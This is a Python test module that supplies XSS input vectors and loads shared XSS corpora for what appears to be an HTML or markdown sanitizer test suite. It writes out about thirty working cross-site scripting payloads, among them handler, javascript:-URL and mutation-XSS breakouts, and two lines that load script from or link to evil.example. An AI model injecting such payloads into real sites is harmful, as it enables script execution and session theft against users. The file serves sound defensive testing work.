"""XSS vectors: a small hand-written set for every run, the shared corpora for the full run."""

from __future__ import annotations

import json
from pathlib import Path

#: Representative vectors of each family (script, handlers, URLs, breakouts, SVG, CSS,
#: encodings, markdown links). Written for this suite; the corpora add thousands more.
REPRESENTATIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"//evil.example/\">scheme-relative</a>",
    "[md link](javascript:alert(1))",
    "[md data](data:text/html,<script>alert(1)</script>)",
    "![img](javascript:alert(1))",
    "<div style=\"background:url(javascript:alert(1))\">css</div>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "</script><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"https://ok.example.org/\">a harmless link</a> and **bold** and *emphasis*",
]


def corpus_vectors(shared: Path) -> dict[str, list[str]]:
    """Every vector of ../shared/corpus/badinput/xss, by file (read in place, never copied)."""
    root = shared / "corpus" / "badinput" / "xss"
    out: dict[str, list[str]] = {}
    for path in sorted(root.iterdir()):
        if path.suffix == ".jsonl":
            # split on "\n" only: payloads contain U+2028, which splitlines() would break on
            rows = [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line.strip()]
            out[path.name] = [r.get("payload") or r.get("block") or "" for r in rows]
        elif path.suffix == ".txt":
            out[path.name] = [line for line in path.read_text(encoding="utf-8", errors="replace").split("\n") if line.strip()]
        out[path.name] = [v for v in out.get(path.name, []) if v.strip()]
    return out
